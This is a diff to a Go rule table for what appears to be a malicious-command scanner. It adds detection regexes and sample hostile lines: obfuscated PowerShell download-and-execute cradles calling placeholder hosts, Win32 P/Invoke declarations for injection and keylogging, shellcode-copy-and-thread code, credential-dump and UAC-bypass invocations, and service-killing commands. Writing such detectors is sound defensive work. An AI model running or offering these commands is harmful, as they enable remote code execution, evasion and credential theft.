@@ -174,14 +174,18 @@ var textRules = []*textRule{
 		[]string{"taskkill /IM sqlservr.exe /F & taskkill /IM oracle.exe /F & taskkill /IM outlook.exe /F", "net stop SQLWriter /y & net stop \"Veeam Backup Catalog Data Service\" /y"},
 		[]string{"net stop MSSQLSERVER", "taskkill /IM outlook.exe /F"}),
 	tr("ps-download-exec", "download and execute", critical, "downloads a PowerShell script and runs it with Invoke-Expression",
-		[]string{"iex", "invoke-expression"},
-		`(\biex\b|invoke-expression)`,
+		[]string{"iex", "invoke-expression", "scriptblock]::create", "gcm", "get-command"},
+		// Invoke-Expression by name, a script block made from the text, or
+		// a command found by a wildcard (&(gcm *ke-e*)) and called.
+		`(\biex\b|invoke-expression|scriptblock\]::create\s*\(|&\s*\(\s*(gcm|get-command)\s+['"]?[\w-]*\*)`,
 		`downloadstring|downloaddata|\biwr\b|invoke-webrequest|\birm\b|invoke-restmethod|net\.webclient|start-bitstransfer|\bcurl\b|\bwget\b|httpclient|\.content|xmlhttp|winhttprequest|\.responsetext|internetexplorer\.application|getresponsestream|net\.webrequest`,
 		[]string{
 			"powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.90/a.ps1')\"",
 			"iex (iwr -UseBasicParsing https://example.org/setup.ps1)",
 			"irm https://example.org/i.ps1 | iex",
 			"powershell -c \"I`E`X ((new-object net.webclient).('Down'+'loadString')('http://192.0.2.91/x'))\"",
+			"& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('http://192.0.2.92/m')))",
+			"powershell -c \"&(gcm *ke-e*) ((New-Object Net.WebClient).DownloadString('http://192.0.2.93/x'))\"",
 		},
 		[]string{"Invoke-WebRequest -Uri https://example.org/file.zip -OutFile file.zip", "Get-ChildItem | Select-Object Name"}),
 	tr("ps-download-run", "download and execute", high, "downloads a program and starts it",
@@ -280,6 +284,30 @@ var textRules = []*textRule{
 		"",
 		[]string{"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"},
 		[]string{"Get-Help about_Execution_Policies"}),
+	// Win32 functions declared for PowerShell or .NET (P/Invoke) whose
+	// only everyday callers are loaders, injectors, keyloggers and
+	// dumpers: what the declaration is for says what the script does.
+	tr("ps-pinvoke-abuse", "library injection", high, "declares Win32 functions for memory injection, keystroke capture or process dumping from PowerShell (ATT&CK T1055, T1056.001, T1003.001)",
+		[]string{"dllimport", "getdelegateforfunctionpointer"},
+		`dllimport|getdelegateforfunctionpointer`,
+		`virtualprotect(ex)?\b|virtualalloc(ex)?\b|createremotethread|writeprocessmemory|readprocessmemory|ntwritevirtualmemory|ntallocatevirtualmemory|ntcreatethreadex|queueuserapc|setthreadcontext|ntunmapviewofsection|rtlcreateuserthread|getasynckeystate|setwindowshookex|getkeyboardstate|minidumpwritedump|\bcreatethread\b|amsiscanbuffer|etweventwrite`,
+		[]string{"Add-Type -TypeDefinition 'using System;using System.Runtime.InteropServices;public class M{[DllImport(\"kernel32\")]public static extern bool VirtualProtect(IntPtr a,UIntPtr b,uint c,out uint d);}'", "[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);"},
+		[]string{"Add-Type -TypeDefinition '[DllImport(\"user32.dll\")] public static extern int MessageBox(IntPtr h, string t, string c, int type);'", "Add-Type -AssemblyName System.Windows.Forms"}),
+	tr("ps-shellcode-copy", "obfuscated execution", high, "copies raw machine code into memory and starts a thread on it from PowerShell (ATT&CK T1055)",
+		[]string{"marshal]::copy"},
+		`marshal\]::copy\s*\(`,
+		`createthread|getdelegateforfunctionpointer|virtualprotect|queueuserapc`,
+		[]string{"[System.Runtime.InteropServices.Marshal]::Copy($sc,0,$addr,$sc.Length);$t=$k::CreateThread(0,0,$addr,0,0,0)"},
+		[]string{"[System.Runtime.InteropServices.Marshal]::Copy($src, 0, $ptr, $src.Length)"}),
+	// Scripts, modules and functions whose names say the technique they
+	// carry out (uac-bypass.ps1, Invoke-PSInject, timestomp.ps1): run,
+	// loaded or dot-sourced, the name is what the call does.
+	tr("technique-named-script", "indirect execution", high, "runs, loads or calls a script or function named for an attack technique (UAC bypass, credential dumping, injection, timestomping, keylogging) (ATT&CK T1059.001)",
+		[]string{"uac", "cred", "katz", "timestomp", "inject", "keylog", "privesc", "revshell", "reverse", "backdoor", "shellcode", "lsass", "hollow"},
+		`(^|[\s\\/"'(&.;:=])[\w.-]*(bypass-?uac|uac-?bypass|uac-?me\b|cred-?dump|dump-?creds?|creds?-?dumps?\b|\w*katz|timestomp|psinject|\w+-?inject(ion|or)?\b|keylog\w*|privesc|revshell|reverse-?shell|backdoor|shellcode|lsass-?dump|dump-?lsass|process-?hollow\w*)[\w.-]*(\.(ps1|psm1|exe|dll|bat|cmd|vbs|js|hta|py)\b|\s+-[a-z]|\s*;|\s*$)`,
+		`\.(ps1|psm1|exe|dll|bat|cmd|vbs|js|hta|py)\b|\b(invoke|bypass|get|start|new|set)-\w*(uac|cred|katz|inject|timestomp|keylog|privesc|backdoor|shellcode|lsass|hollow)`,
+		[]string{". .\\tools\\credDump.ps1; Run-Dump", "powershell -ep bypass -File .\\uac-bypass.ps1 -Target fodhelper", "Import-Module .\\lib\\Invoke-PSInject.ps1; Invoke-PSInject -ProcId 4242 -PoshCode $c", "Import-Module .\\Bypass-UAC.ps1; Bypass-UAC -Method fodhelper"},
+		[]string{"Get-Content .\\notes\\uac-bypass-writeup.md", "dotnet add package Microsoft.Extensions.DependencyInjection", "Get-Credential"}),
 	tr("ps-shellcode", "obfuscated execution", high, "loads and runs raw machine code from PowerShell",
 		[]string{"virtualalloc"},
 		`virtualalloc`,
